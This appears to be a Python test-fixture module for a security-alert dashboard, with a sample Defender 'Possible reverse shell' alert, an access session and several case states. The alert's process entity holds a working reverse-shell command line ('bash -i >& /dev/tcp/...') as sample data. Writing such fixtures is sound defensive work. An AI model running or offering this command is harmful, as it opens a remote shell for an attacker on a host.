"""Alerts in every state, as the layouts beside this checkout show them."""

from __future__ import annotations

from datetime import datetime

from approvals.deeds import DeedKind
from approvals.events import PersonId, RequestId
from defender.alert import Alert, Entity
from feeds.cases import Case, Step
from feeds.correlation import Session
from handlers.views.alert_view import AlertView, Place
from tests.handlers.views.samples import JST, SATO, SUZUKI, YAMADA

PORTAL = "https://security.microsoft.com/alerts/da00000000-0000-4000-8000-000000005121_1"
VM = "/subscriptions/s/resourceGroups/rg-web/providers/Microsoft.Compute/virtualMachines/web-01"
NAMES = {str(YAMADA): "yamada", str(SATO): "sato", str(SUZUKI): "suzuki"}
KEY = "2518770965529163669_f144ee95-a3e5-42da-a279-967d115809aa"


def at(hour: int, minute: int) -> datetime:
    return datetime(2026, 11, 25, hour, minute, tzinfo=JST)


SHELL = Alert(
    key=KEY,
    arm_id=f"/subscriptions/s/providers/Microsoft.Security/locations/centralus/alerts/{KEY}",
    title="Possible reverse shell",
    alert_type="VM_ReverseShell",
    severity="High",
    status="Active",
    intent="Execution",
    product="Defender for Endpoint",
    description=(
        "A shell on this host had its input and output redirected to a remote address. "
        "An attacker may be running commands on it."
    ),
    resource_id=VM,
    machine="web-01",
    started_at=at(18, 21),
    generated_at=at(18, 21),
    entities=(
        Entity("host", "web-01"),
        Entity("process", "/bin/bash", {"command_line": "bash -i >& /dev/tcp/203.0.113.99/4444"}),
        Entity("account", "www-data"),
        Entity("ip", "203.0.113.99"),
        Entity("file", "/var/www/html/up.php"),
    ),
    link=PORTAL,
)

PLACE = Place(
    machine="web-01",
    resource_group="rg-web",
    subscription="prod-web",
    os="Ubuntu 22.04",
    cloud="azure",
)

SESSION = Session(
    request_id=RequestId("1042"),
    person=YAMADA,
    ports=(22,),
    source="203.0.113.7",
    source_label="",
    approvers=(SATO,),
    opened_at=at(17, 50),
    ends_at=at(19, 50),
    is_open=True,
)


def view(alert: Alert = SHELL, **changes: object) -> AlertView:
    facts: dict[str, object] = {
        "alert": alert,
        "place": PLACE,
        "sessions": (SESSION,),
        "reasons": {"1042": "TLS renewal"},
        "closable": (SESSION, "1042.3"),
        "names": NAMES,
        "first_at": at(18, 21),
    }
    return AlertView(**(facts | changes))  # type: ignore[arg-type]


def step(kind: DeedKind, by: PersonId, hour: int, minute: int, reason: str = "") -> Step:
    return Step(kind, by, at(hour, minute), reason)


TAKEN = Case(owner=SATO, owned_at=at(18, 24), steps=(step(DeedKind.TAKEN, SATO, 18, 24),))
RESOLVED = Case(
    owner=SATO,
    owned_at=at(18, 24),
    state="resolved",
    decided_by=SATO,
    decided_at=at(19, 2),
    reason="Web shell removed, keys rotated, ticket SEC-311",
    steps=(step(DeedKind.RESOLVED, SATO, 19, 2),),
)
DISMISSED = Case(
    state="dismissed",
    decided_by=SATO,
    decided_at=at(18, 40),
    verdict="expected",
    reason="Penetration test of 25 November, ticket SEC-298",
    steps=(step(DeedKind.DISMISSED, SATO, 18, 40),),
)
REOPENED = Case(
    decided_by=SUZUKI,
    decided_at=at(21, 10),
    reason="The same address connected again at 21:04",
    steps=(step(DeedKind.RESOLVED, SATO, 19, 2), step(DeedKind.REOPENED, SUZUKI, 21, 10)),
)
